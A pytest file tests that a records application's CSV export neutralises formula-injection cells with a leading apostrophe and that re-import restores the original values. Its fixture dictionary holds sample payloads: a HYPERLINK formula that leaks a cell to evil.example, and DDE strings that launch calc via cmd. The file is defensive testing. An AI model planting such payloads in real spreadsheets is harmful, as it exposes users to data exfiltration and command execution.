"""The CSV export defuses cells a spreadsheet would run as formulas, and the import restores
them exactly (OWASP "CSV injection": =, +, -, @, tab, carriage return)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select, update

from casefile.services.open_formats.csv_import import ImportKind, RowAction, run_import
from casefile.services.open_formats.export import export_csv
from casefile.services.records.drafts import save_record
from casefile.vault.schema import Person
from casefile.vault.vault import Vault

#: Each start a spreadsheet treats as a formula (tab and CR: Excel trims and then evaluates),
#: and the apostrophe itself, which is doubled so that the import can undo exactly one.
DANGEROUS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+7 700 123 45 67",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "apostrophe": "'=already escaped",
}


def _persons_csv(folder: Path) -> dict[str, dict[str, str]]:
    raw = (folder / "persons.csv").read_bytes()
    rows = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    return {row["full_name"]: row for row in rows}


@pytest.fixture
def people(vault: Vault) -> dict[str, str]:
    ids = {key: save_record(vault, "persons", None, {"full_name": key}) for key in DANGEROUS}
    # Written below the forms, which trim a leading tab or CR: a partner's bundle or an older
    # version may still have stored them.
    with vault.write() as session:
        for key, value in DANGEROUS.items():
            session.execute(update(Person).where(Person.id == ids[key]).values(notes=value))
    return ids


def test_formula_cells_are_defused_in_the_export(
    vault: Vault, people: dict[str, str], tmp_path: Path
) -> None:
    export_csv(vault, tmp_path / "out")
    rows = _persons_csv(tmp_path / "out")
    for key, value in DANGEROUS.items():
        cell = rows[key]["notes"]
        assert cell == "'" + value, key
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), key
    # A harmless cell is left as it is.
    assert rows["equals"]["full_name"] == "equals"


def test_defused_cells_import_back_exactly(
    vault: Vault, people: dict[str, str], tmp_path: Path
) -> None:
    export_csv(vault, tmp_path / "out")
    data = (tmp_path / "out" / "persons.csv").read_bytes()
    with vault.write() as session:
        session.execute(update(Person).values(notes=None))
    result = run_import(vault, ImportKind.PEOPLE, data)
    assert {row.action for row in result.plan.rows} == {RowAction.UPDATE}
    with vault.read() as session:
        notes = {
            name: note for name, note in session.execute(select(Person.full_name, Person.notes))
        }
    # The import strips surrounding spaces from a cell, so the tab and CR come back trimmed.
    expected = {key: value.strip() for key, value in DANGEROUS.items()}
    assert notes == expected
